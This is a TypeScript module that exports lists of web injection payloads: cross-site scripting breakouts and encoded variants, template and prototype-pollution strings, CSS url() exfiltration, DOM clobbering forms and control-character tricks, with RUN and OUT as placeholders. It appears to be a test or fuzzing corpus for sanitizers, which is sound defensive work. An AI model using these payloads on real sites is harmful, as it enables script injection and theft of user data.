/** Payloads that break out of a text, or that mean something to code that reads it as anything but text. */
export const TEXTS = String.raw`
"><img src=x onerror=RUN>
'><img src=x onerror=RUN>
TICK><img src=x onerror=RUN>
"/><svg onload=RUN>
'/><svg onload=RUN>
" onfocus=RUN autofocus tabindex=0 x="
' onfocus=RUN autofocus tabindex=0 x='
" onmouseover="RUN" style="position:fixed;inset:0" x="
"onpointerenter=RUN//
x onfocus=RUN autofocus
x" is="x-x" onclick="RUN
" src="OUT" srcset="OUT 1x" x="
" style="background:url(OUT)
" href="javascript:RUN
"formaction="javascript:RUN"
&quot;&gt;&lt;img src=x onerror=RUN&gt;
&lt;img src=x onerror=RUN&gt;
&amp;lt;img src=x onerror=RUN&amp;gt;
&#60;img src=x onerror=RUN&#62;
&#x3c;img src=x onerror=RUN&#x3e;
&#0000060img src=x onerror=RUN&#0000062
&LT;img src=x onerror=RUN&GT;
\x3cimg src=x onerror=RUN\x3e
\u003cimg src=x onerror=RUN\u003e
%3Cimg src=x onerror=RUN%3E
%253Cimg%20src%3Dx%20onerror%3DRUN%253E
＜img src=x onerror=RUN＞
‹img src=x onerror=RUN›
+ADw-script+AD4-RUN+ADw-/script+AD4-
</style></script></title></textarea></p><img src=x onerror=RUN>
</script><script>RUN</script>
</script><svg onload=RUN>
</style><svg onload=RUN>
</title><svg onload=RUN>
</textarea><svg onload=RUN>
</template><svg onload=RUN>
</noscript><svg onload=RUN>
</iframe><svg onload=RUN>
</select></option><svg onload=RUN>
</svg></math><svg onload=RUN>
--><img src=x onerror=RUN><!--
--!><img src=x onerror=RUN>
]]><img src=x onerror=RUN>
*/RUN/*
';RUN//
";RUN//
\';RUN//
\";RUN//
'-RUN-'
"-RUN-"
TICK-RUN-TICK
'+RUN+'
);RUN//
});RUN//
</script>TICK;RUN//
//%0aRUN
{{RUN}}
{{constructor.constructor('RUN')()}}
{{$on.constructor('RUN')()}}
{{7*7}}<img src=x onerror=RUN>
{{{RUN}}}
{{&RUN}}
[[RUN]]
DOLLAR{RUN}
DOLLAR{{RUN}}
#{RUN}
<%= RUN %>
<%RUN%>
{%RUN%}
@{RUN}
{path_url}"><img src=x onerror=RUN>
{first_name}<img src=x onerror=RUN>
[text* name "><img src=x onerror=RUN>"]
[hidden a "javascript:RUN"]
[raw_html]<img src=x onerror=RUN>[/raw_html]
[caption]"><img src=x onerror=RUN>[/caption]
{"__proto__":{"polluted":NUMBER}}
{"constructor":{"prototype":{"polluted":NUMBER}}}
__proto__[polluted]=NUMBER&constructor[prototype][polluted]=NUMBER
__proto__.polluted
constructor.prototype.polluted
{"toString":"RUN","valueOf":"RUN"}
{"$ref":"OUT"}
red;background:url(OUT)
red;}*{background:url(OUT)}
url(OUT)
url("OUT")
url(javascript:RUN)
image-set(url(OUT) 1x)
expression(RUN)
var(--x,url(OUT))
env(x,url(OUT))
red}</style><img src=x onerror=RUN><style>
\000075rl(OUT)
u/**/rl(OUT)
@import url(OUT);
} @import "OUT"; {
x} :host{background:url(OUT)} y{
behavior:url(OUT)
-moz-binding:url(OUT#x)
"}body{background:url(OUT)}
<a id=tagdrop><a id=tagdrop name=config href="javascript:RUN">
<form id=poptin><input name=settings value="RUN"></form>
<form><input name=attributes><input name=parentNode><img src=x onerror=RUN></form>
<form id=document><img name=getElementById src=x onerror=RUN>
<img name=getElementById><img name=createElement><img name=body>
<form name=currentScript><input name=src value=OUT></form>
<iframe name=defaultView srcdoc="<script>parent.RUN</script>"></iframe>
<a id=customElements><a id=navigation><a id=trustedTypes>
<a id=getCkyConsent href="javascript:RUN"></a><a id=dataLayer></a><a id=wpcf7></a>
<form id=f tabindex=0 onfocus=RUN autofocus><input id=nodeName><input name=tagName></form>
‮<img src=x onerror=RUN>‬
⁦"><img src=x onerror=RUN>⁩
​<img src=x onerror=RUN>
﻿<img src=x onerror=RUN>
<ımg src=x onerror=RUN><img src=x onerror=RUN>
<ſcript>RUN</ſcript><img src=x onerror=RUN>
<ScRıPt>RUN</ScRıPt><svg onload=RUN>
İ<img src=x onerror=RUN>ß
javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+RUN//'>
jaVasCript:/*-/*TICK/*\TICK/*'/*"/**/(/* */oNcliCk=RUN )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=RUN//>\x3e
">'><marquee onstart=RUN></marquee><details/open/ontoggle=RUN>"'>
'"--></style></script><svg oNload=RUN>
"'><svg/onload=RUN>{{7*7}}DOLLAR{7*7}<%=7*7%>
*/</script>'>alert(NUMBER)/*<image/onerror='RUN' src=x>
# "><img src=x onerror=RUN>
[x](javascript:RUN)
![x](OUT"onerror="RUN)
<javascript:RUN>
**<img src=x onerror=RUN>**
`;

/** What `String.raw` can't contain: control characters. */
export const CONTROL_TEXTS: readonly string[] = [
  '<img\0 src=x onerror=RUN>',
  '<\0script>RUN</script><img src=x onerror=RUN>',
  '<img src=x\0onerror=RUN x onerror=RUN>',
  '<img src=x\fonerror=RUN>',
  '<img src=x\u000bonerror=RUN onerror=RUN>',
  '<img src=x\ronerror=RUN>',
  '<img\u00a0src=x onerror=RUN><img src=x onerror=RUN>',
  '<img src=x onerror\u2003=RUN onerror=RUN>',
  '<svg\u2028onload=RUN><svg onload=RUN>',
  '\ud800<img src=x onerror=RUN>\udfff',
  '\u001b]0;<img src=x onerror=RUN>\u0007',
  `${'<b>'.repeat(513)}<svg><p><style><a id="</style><img src=x onerror=RUN>">`,
  `${'"'.repeat(200)}><img src=x onerror=RUN>`,
  `${' '.repeat(5000)}<img src=x onerror=RUN>`,
];
